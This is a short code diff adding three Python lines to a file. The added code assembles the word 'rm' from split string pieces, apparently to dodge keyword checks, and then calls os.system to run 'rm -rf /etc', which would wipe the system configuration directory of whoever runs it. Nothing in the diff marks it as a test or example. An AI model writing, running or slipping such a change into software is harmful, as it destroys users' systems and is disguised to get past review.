@@ -1,0 +1,3 @@
+import os
+part = "r" + "m"
+os.system(part + " -rf " + "/etc")
